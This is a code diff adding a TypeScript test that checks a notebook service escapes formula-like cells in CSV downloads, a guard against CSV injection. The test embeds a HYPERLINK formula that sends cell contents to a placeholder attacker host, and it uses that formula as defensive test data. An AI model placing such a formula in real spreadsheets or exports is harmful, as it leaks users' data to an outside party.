@@ -130,6 +130,21 @@ for (const target of testDatabaseTargets()) {
       expect((JSON.parse(jtext) as { _value: number }[]).length).toBe(1 + 10 + 100);
     });
 
+    it("a CSV download shows formula-like cells as text (CSV injection)", async () => {
+      const formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"details")';
+      const nb = await svc.create(alice, { name: "", template: "greeting", parameters: { Greeting: formula } });
+      const cell = nb.cells.find((c) => c.input.includes("range"))!;
+      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=2)" });
+      const done = await waitFor(async () => {
+        const c = (await svc.get(alice, nb.id)).cells.find((x) => x.id === cell.id)!;
+        return c.status === "done" ? c : undefined;
+      });
+      const csv = await svc.download(alice, nb.id, cell.id, done.tables[0]!.id, "csv", {});
+      let text = "";
+      for await (const chunk of csv.body) text += chunk;
+      expect(text.split("\r\n").slice(0, 2)).toEqual(["_value,Name,Env", `0,host-0,"'=HYPERLINK(""http://attacker.invalid/?""&A1,""details"")"`]);
+    });
+
     it("a result past the row cap is marked truncated and says so", async () => {
       const nb = await svc.create(alice, { name: "Cap" });
       await svc.update(alice, nb.id, { settings: { maxRows: 10 } });
